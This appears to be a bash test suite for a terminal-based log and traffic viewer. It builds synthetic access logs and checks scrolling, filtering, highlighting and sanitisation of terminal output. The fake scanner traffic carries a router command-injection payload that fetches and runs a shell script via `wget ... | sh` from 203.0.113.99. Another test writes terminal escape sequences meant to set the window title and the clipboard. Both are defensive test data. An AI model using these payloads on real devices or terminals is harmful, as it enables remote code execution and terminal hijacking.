#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# The log and the tops.
. "$(dirname "$0")/../lib/sh.sh"
. "$NG_TOP/tests/console/golden.sh"

# A quarter of an hour: people, a crawler, a scanner with long requests, somebody at SSH.
traffic() {
	awk 'function request(t, ip, path, status, agent) {
		printf "{\"t\":\"request\",\"ts\":%d.5,\"ip\":\"%s\",\"method\":\"%s\",\"path\":\"%s\",", t, ip,
			path == "/login" ? "POST" : "GET", path
		printf "\"status\":%d,\"bytes\":2000,\"proto\":\"HTTP/1.1\",\"referer\":\"%s\",", status,
			status == 404 ? "" : "https://www.example.org/page"
		printf "\"agent\":\"%s\",\"vhost\":\"shop.example\",\"log\":\"/var/log/nginx/shop.access.log\"}\n",
			agent
	}
	BEGIN {
		from = 1767226400
		chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) " \
			"Chrome/140.0.0.0 Safari/537.36"
		google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
		long = "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http%3A%2F%2F" \
			"203.0.113.99%2Fsh+-O-|sh`)&padding=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
			"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb&end"
		printf "{\"t\":\"start\",\"ts\":%d,\"version\":\"0.2.0\",\"host\":\"web1\",", from
		print "\"show_private_ips\":true,\"schema\":1}"
		printf "{\"t\":\"source\",\"ts\":%d,\"source\":\"ebpf\",\"sees\":[\"conns\",\"handshakes\"],", from
		print "\"probes\":[\"iter/tcp\"]}"
		printf "{\"t\":\"log\",\"ts\":%d,\"log\":\"/var/log/nginx/shop.access.log\",", from
		print "\"state\":\"reading\",\"lines\":900,\"rejected\":0,\"skipped\":0}"
		for (i = 0; i < 900; i++) {
			t = from + i
			if (i % 3 == 0)
				request(t, "66.249.66.12", "/blog/2024/" i % 12 + 1 "/page-" i % 50 ".html", 200, google)
			if (i % 2 == 0)
				request(t, "192.0.2." 30 + i % 9, "/shop/item/" 4000 + i % 90, i % 40 ? 200 : 502, chrome)
			if (i % 30 == 7)
				request(t, "2001:db8:1:2::5", "/login", 302, chrome)
			if (i > 500 && i % 5 < 2)
				request(t, "192.0.2.77", i % 20 == 6 ? long : "/x" i ".php", 404, "Mozilla/5.0 zgrab/0.x")
			if (i % 300 == 100)
				printf "{\"t\":\"auth\",\"ts\":%d.7,\"ip\":\"198.51.100.9\",\"outcome\":\"failed\"," \
					"\"user\":\"root\",\"method\":\"password\",\"log\":\"/var/log/auth.log\"}\n", t
			printf "{\"t\":\"tick\",\"ts\":%d}\n", t + 1
		}
	}' >"$T/log.ndjson"
}

# show COLSxROWS KEY...: that traffic, and these keys.
show() {
	local size=$1
	shift
	[ -e "$T/log.ndjson" ] || traffic
	console "$size" --replay "$T/log.ndjson" --speed max --show-private-ips
	tui_wait "$PLAYED"
	[ $# -eq 0 ] || tui_keys "$@"
}

test_scrolled_back() {
	show 80x24 Tab Up Up
	tui_wait '^ agent ' # the page is as high from here on
	tui_keys PageUp PageUp PageUp
	golden log-back-80x24
	tui_resize 120x40
	golden log-back-120x40
	tui_keys End
	tui_wait 'following|Log [0-9]'
}

test_wrapped() {
	show 80x24 /
	tui_type 192.0.2.77
	tui_keys Enter Tab W
	tui_wait 'filtered'
	tui_keys Up Up Up Up Up Up Up Up Up Up Up Up Up Up
	golden log-wrapped-80x24
	tui_resize 120x40
	golden log-wrapped-120x40
}

# Marked lines stand out, are counted, and can be gone to.
test_highlighted() {
	show 80x24 / C-t
	tui_type status:5xx
	tui_keys Enter Tab
	tui_wait '23 marked'
	tui_keys N N
	golden log-highlighted-80x24
	tui_resize 120x40
	golden log-highlighted-120x40
	tui_keys n n
	tui_wait 'no match further down'
}

# What is cut can be brought into sight.
test_sideways() {
	show 80x24 /
	tui_type path~luci
	tui_keys Enter Tab
	tui_wait 'GET  /cgi-bin/luci'
	tui_keys Right Right Right Right
	tui_wait 'GET  .*203.0.113.99'
	tui_keys Left Left Left Left
	tui_wait 'GET  /cgi-bin/luci'
}

test_only_one_row() {
	show 80x24 Tab Up L
	tui_wait 'only (192.0.2|66.249)'
	tui_keys L
	tui_wait 'line .* of 942'
}

# Who has asked for nothing: why.
test_an_empty_log_says_why() {
	play 80x24
	tui_wait "$PLAYED"
	tui_keys Down L
	tui_wait 'only 198.51.100.0/24'
	tui_wait '120 half-open, 0 handshakes'
	tui_wait 'may be forged'
}

test_tops() {
	local tab
	show 80x24
	for tab in paths agents status ports hosts referers; do
		tui_keys v
		golden "tops-$tab-80x24"
	done
	tui_resize 120x40
	for tab in hosts ports status agents paths; do
		tui_keys V
		golden "tops-$tab-120x40"
	done
}

# A path is hammered, and one key more narrows to it.
test_narrowing_to_an_entry() {
	show 80x24 v
	tui_wait '/shop/\*'
	tui_keys +
	tui_wait 'path~\^/s'
	tui_keys BSpace v v Down Down Enter
	tui_wait 'status:'
}

test_nothing_is_counted_as_recorded() {
	traffic
	console 80x24 --replay "$T/log.ndjson" --speed max --show-private-ips --as-recorded
	tui_wait "$PLAYED"
	tui_keys v
	tui_wait 'Nothing is judged here'
}

# Whatever stands in a log, none of it reaches the terminal as it is: no escape sequence, no control
# character, no byte that is not UTF-8.
test_no_byte_of_a_log_reaches_the_terminal_raw() {
	local key
	LC_ALL=C awk 'BEGIN {
		srand(7)
		for (i = 0; i < 600; i++) {
			s = ""
			for (k = 0; k < 60; k++)
				s = s sprintf("%c", 1 + int(rand() * 255))
			gsub(/[\n"]/, "", s)
			printf "203.0.113.%d - u\033[31m%s [01/Jan/2026:00:%02d:%02d +0000] \"GET /\033]0;PWNED\007%s HTTP/1.1\" 404 9 " \
				"\"http://r/\033]52;c;UFdORUQ=\007%s\" \"a\302\233m\342\200\256%s\033P+q544e\033\\\\\"\n",
				i % 250, i, i / 60 % 60, i % 60, s, s, s
		}
	}' >"$T/access.log"
	export HOME=$T XDG_CONFIG_HOME=$T
	console 100x30 --log-path "$T/access.log" --log-format combined --show-private-ips
	tui pipe-pane -o "cat >$T/raw"
	tui_wait 'Log '
	cp "$T/access.log" "$T/more"
	cat "$T/more" >>"$T/access.log"
	tui_wait '404 GET'
	for key in Tab Up Up W PageUp PageUp Home End v v v v v v v Tab Enter Down Down Escape i Escape; do
		tui_keys "$key"
		poll_for settled 2 || true # the clock goes on
	done
	tui_keys q
	poll_for "[ -s '$T/raw' ]" 5
	[ "$(tui display-message -p '#{pane_title}')" != PWNED ] || fail 'the title was set by a log'
	sed -i 's/\x1b\]11;?\x07//g' "$T/raw" # what asks for the background
	iconv -f UTF-8 -t UTF-8 "$T/raw" >/dev/null || fail 'not UTF-8'
	! LC_ALL=C.UTF-8 grep -aqP '\x07|\x{80}|[\x{81}-\x{9f}]|\x{202e}' "$T/raw" || fail 'a control character'
	! LC_ALL=C grep -aqP '\x1b\](?!11;\?|8)|\x1bP|\x1b\[3[1]m.*PWNED' "$T/raw" || fail 'a sequence of a log'
}

run_tests
